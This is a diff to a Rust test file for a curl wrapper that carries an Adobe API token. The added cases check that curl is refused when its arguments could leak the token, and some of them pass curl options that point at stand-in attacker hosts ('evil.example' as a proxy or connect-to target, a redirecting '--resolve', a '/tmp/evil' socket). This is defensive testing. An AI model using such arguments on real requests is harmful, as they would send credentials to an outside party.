@@ -7,6 +7,8 @@ use serde_json::{Value, json};
 use std::path::Path;
 
 const DAY: i64 = 86_400;
+/// On this machine, without TLS.
+const HERE: &str = "http://127.0.0.1:4502/";
 const LIBRARIES: &str = "https://api-places.adobe.io/places/placesapi/v1/libraries";
 
 fn places() -> Home {
@@ -254,11 +256,21 @@ fn curl_has_the_token_and_its_arguments_do_not() {
 #[case::verbose(&["-v", LIBRARIES], "prints the token")]
 #[case::config(&["-K", "x", LIBRARIES], "not seen here")]
 #[case::unknown(&["--frobnicate", LIBRARIES], "does not know")]
+#[case::not_get(&["--no-get", "-d", "a=b", LIBRARIES], "does not know")]
+#[case::hidden(&["--ssl-sessions", "-o", "-k", LIBRARIES], "in Adobe’s place")]
+#[case::redirects(&["--proto-redir", "=http,https", LIBRARIES], "where answers may lead")]
+#[case::past_the_proxy(&["--noproxy", "", LIBRARIES], "past the proxy")]
+#[case::headers_in_a_file(&["-H", "@headers", LIBRARIES], "not seen here")]
+#[case::elsewhere(&["--connect-to", "::evil.example:80", HERE], "without TLS")]
+#[case::through_a_proxy(&["-x", "http://evil.example:8080", HERE], "without TLS")]
+#[case::other_name(&["--resolve", "127.0.0.1:4502:192.0.2.1", HERE], "without TLS")]
+#[case::socket(&["--unix-socket", "/tmp/evil", HERE], "without TLS")]
 fn curl_is_not_called_where_the_token_would_not_be_safe(
     #[case] arguments: &[&str],
     #[case] expected: &str,
 ) {
     let home = places();
+    home.ok(&["profile", "edit", "Places", "--allow-host", "127.0.0.1"]);
     let folder = home.path().join("bin");
     program(&folder, "curl", "touch \"$0.called\"");
     let mut command = home.command(&[&["curl", "Places"], arguments].concat());
@@ -282,7 +294,14 @@ fn curl_writes_to_production_only_when_that_was_meant() {
     };
     let called = (Some(0), "called\n".to_owned(), String::new());
     assert_eq!(call(&["Places", LIBRARIES]), called);
-    for writes in [&["-X", "DELETE"][..], &["-da=b"], &["-T", "file"], &["--json", "{}"]] {
+    for writes in [
+        &["-X", "DELETE"][..],
+        &["-da=b"],
+        &["-T", "file"],
+        &["--json", "{}"],
+        &["-G", "-F", "a=b"],
+        &["-G", "--form-string", "a=b"],
+    ] {
         let (code, printed, said) = call(&[&["Places"], writes, &[LIBRARIES]].concat());
         assert_eq!((code, &*printed), (Some(1), ""), "{writes:?}");
         assert!(said.contains("is production") && said.contains("--yes"), "{said}");
@@ -291,7 +310,7 @@ fn curl_writes_to_production_only_when_that_was_meant() {
 }
 
 /// A program that a shell runs.
-fn program(folder: &Path, name: &str, script: &str) {
+pub(crate) fn program(folder: &Path, name: &str, script: &str) {
     std::fs::create_dir_all(folder).unwrap();
     let path = folder.join(name);
     std::fs::write(&path, format!("#!/bin/sh\n{script}\n")).unwrap();
@@ -302,6 +321,6 @@ fn program(folder: &Path, name: &str, script: &str) {
     }
 }
 
-fn path_with(folder: &Path) -> String {
+pub(crate) fn path_with(folder: &Path) -> String {
     format!("{}:{}", folder.display(), std::env::var("PATH").unwrap())
 }
